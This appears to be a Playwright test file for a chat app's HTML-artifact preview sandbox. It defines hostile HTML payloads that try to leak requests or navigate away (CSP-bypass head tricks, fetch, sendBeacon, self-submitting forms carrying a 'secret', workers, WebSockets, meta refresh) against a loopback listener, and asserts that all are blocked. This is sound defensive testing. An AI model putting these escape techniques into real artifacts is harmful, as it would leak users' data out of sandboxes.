/**
 * Hostile previews: artifacts written to get their requests out of the sandbox, each previewed while a loopback
 * listener records every HTTP request and connection that reaches it. No request may arrive; a page that tries
 * to navigate away is replaced by a notice saying where it tried to go.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { fence, openSession } from "./helpers";

let listener: Server;
let base = "";
const requests: string[] = [];
/** TCP connections, requests or not: a preconnect would show here. */
let connections = 0;

test.beforeAll(async () => {
  listener = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*");
    response.end("leaked");
  });
  listener.on("connection", () => {
    connections++;
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  base = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});

test.afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));

/** Imports one HTML artifact into a new session, previews it, and gives the requests the listener saw. */
async function preview(page: Page, name: string, html: string) {
  const path = await openSession(page);
  const response = await page.request.post(`/api/sessions${path.slice(2)}/messages`, {
    data: { role: "assistant", content: `${fence}html title="${name}"\n${html}\n${fence}\n` },
  });
  expect(response.status()).toBe(201);
  const card = page.getByRole("article", { name });
  await card.getByRole("button", { name: "Preview" }).click();
  return card;
}

/** Every way out we know of, each in a document shaped to slip past a policy spliced into its text. */
/** Each: a name, the document, and whether it starts a navigation (which may open a bare connection). */
const attempts = (url: string): [string, string, navigates?: boolean][] => [
  [
    "commented head",
    `<!-- <head> --><!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *"></head><body><img src="${url}/img-commented-head"></body></html>`,
  ],
  [
    "misplaced head",
    `<!doctype html><html><body><head><meta http-equiv="Content-Security-Policy" content="default-src *"></head><img src="${url}/img-misplaced-head"></body></html>`,
  ],
  [
    "script before html",
    `<script>fetch("${url}/fetch-before-html").catch(() => {})</script><!doctype html><html><head></head><body>x</body></html>`,
  ],
  [
    "fetch and XHR",
    `<script>fetch("${url}/fetch", { mode: "no-cors" }).catch(() => {}); const x = new XMLHttpRequest(); x.open("GET", "${url}/xhr"); x.send();</script>`,
  ],
  [
    "CSS url and @import",
    `<style>@import url("${url}/import.css"); body { background: url("${url}/background.png"); } @font-face { font-family: f; src: url("${url}/font.woff"); } p { font-family: f; }</style><p>text</p>`,
  ],
  [
    "srcset and picture",
    `<img srcset="${url}/srcset.png 1x, ${url}/srcset2.png 2x"><picture><source srcset="${url}/source.png"><img src="data:,"></picture>`,
  ],
  [
    "prefetch, preload and friends",
    `<link rel="prefetch" href="${url}/prefetch"><link rel="preload" as="image" href="${url}/preload"><link rel="stylesheet" href="${url}/sheet.css"><link rel="icon" href="${url}/icon.png"><link rel="modulepreload" href="${url}/module.js">`,
  ],
  [
    "external scripts, objects and media",
    `<script src="${url}/script.js"></script><object data="${url}/object"></object><embed src="${url}/embed"><video src="${url}/video.mp4" autoplay></video><audio src="${url}/audio.mp3" autoplay></audio>`,
  ],
  // A nested frame is a navigation: refused before any request, though Chromium may open a bare connection first.
  ["a nested frame", `<iframe src="${url}/iframe"></iframe>`, true],
  [
    "a form that submits itself",
    `<form action="${url}/form" method="post"><input name="secret" value="s3cret"></form><script>document.forms[0].submit()</script>`,
  ],
  ["sendBeacon", `<script>try { navigator.sendBeacon("${url}/beacon", "s3cret") } catch {}</script>`],
  [
    "WebSocket and EventSource",
    `<script>try { new WebSocket("${url.replace("http", "ws")}/socket") } catch {} try { new EventSource("${url}/events") } catch {}</script>`,
  ],
  [
    "a worker",
    `<script>try { new Worker("${url}/worker.js") } catch {} try { new Worker(URL.createObjectURL(new Blob(["fetch('${url}/from-worker')"]))) } catch {}</script>`,
  ],
  [
    "window.open and a top link",
    `<a id="top" href="${url}/top" target="_top">top</a><script>try { window.open("${url}/popup") } catch {} document.getElementById("top").click();</script>`,
  ],
  ["a base href", `<base href="${url}/"><img src="relative.png">`],
  [
    "preconnect and DNS prefetch",
    `<link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}">`,
  ],
];

test("no hostile document gets a request out of its preview", async ({ page }) => {
  // A dozen documents, each given time to try: longer than one test's default.
  test.setTimeout(90_000);
  for (const [name, html, navigates = false] of attempts(base)) {
    requests.length = 0;
    connections = 0;
    const card = await preview(page, name, html);
    const frame = card.getByTitle(`Preview: ${name}`);
    await expect(frame).toBeVisible();
    // Give every request the document could make time to arrive, then look: nothing may have.
    await page.waitForTimeout(750);
    expect(requests, name).toEqual([]);
    // Navigations may open a connection before they are refused (docs/SECURITY.md); nothing else may.
    if (!navigates) expect(connections, `${name}: connections`).toBe(0);
  }
});

test("a preview that navigates itself away is stopped and replaced by a notice saying where it tried to go", async ({
  page,
}) => {
  const navigations: [string, string][] = [
    ["location assignment", `<script>location = "${base}/location?secret=s3cret"</script>`],
    ["meta refresh", `<meta http-equiv="refresh" content="0;url=${base}/refresh">`],
    [
      "a link clicked",
      `<a id="go" href="${base}/link">go</a><script>document.getElementById("go").click()</script>`,
    ],
    // Replacing its own document drops the frame's guard; the app's frame-src still stops the navigation.
    [
      "document.open first",
      `<script>document.open(); document.write('<script>location = "${base}/after-open"<\\/script>'); document.close();</script>`,
    ],
    ["back to the app", `<script>location = "/"</script>`],
  ];
  for (const [name, html] of navigations) {
    requests.length = 0;
    const card = await preview(page, name, html);
    const notice = card.getByRole("alert").filter({ hasText: "This preview tried to leave its page" });
    await expect(notice, name).toBeVisible();
    if (name !== "back to the app") await expect(notice).toContainText(base);
    expect(requests, name).toEqual([]);
    // It can be run again, and is stopped again.
    await notice.getByRole("button", { name: "Run again" }).click();
    await expect(card.getByRole("alert").filter({ hasText: "tried to leave" })).toBeVisible();
  }
});

test("an ordinary preview is not mistaken for one that left", async ({ page }) => {
  const card = await preview(
    page,
    "anchors.html",
    `<!doctype html><html><body><a href="#below">down</a><h1 id="below">Below</h1><script>location.hash = "below"</script></body></html>`,
  );
  const frame = card.getByTitle("Preview: anchors.html").contentFrame();
  await expect(frame.getByRole("heading", { name: "Below" })).toBeVisible();
  await frame.getByRole("link", { name: "down" }).click();
  await page.waitForTimeout(500);
  await expect(card.getByRole("alert")).toHaveCount(0);
});

test("a page that rewrites itself with document.write is not mistaken for one that left", async ({
  page,
}) => {
  const card = await preview(
    page,
    "rewrite.html",
    `<!doctype html><html><body><button onclick="document.write('<h1>Rewritten</h1>'); document.close()">Rewrite</button></body></html>`,
  );
  const frame = card.getByTitle("Preview: rewrite.html").contentFrame();
  await frame.getByRole("button", { name: "Rewrite" }).click();
  await expect(frame.getByRole("heading", { name: "Rewritten" })).toBeVisible();
  await page.waitForTimeout(500);
  await expect(card.getByRole("alert")).toHaveCount(0);
});
